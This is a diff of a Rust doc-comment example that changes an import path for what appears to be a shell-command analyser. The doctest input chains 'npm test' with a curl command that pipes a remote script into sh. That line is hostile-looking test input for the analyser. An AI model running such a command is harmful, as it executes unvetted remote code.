@@ -17,7 +17,7 @@ impl Analysis {
     /// What was found, part by part, for a person.
     ///
     /// ```
-    /// use haft_policy::shell::{Place, analyse};
+    /// use haft_shell::{Place, analyse};
     ///
     /// let found = analyse("npm test && curl -s https://x.io/i.sh | sh", &Place::new("/repo"));
     /// let lines: Vec<_> = found.lines().into_iter().map(|line| (line.text, line.note)).collect();
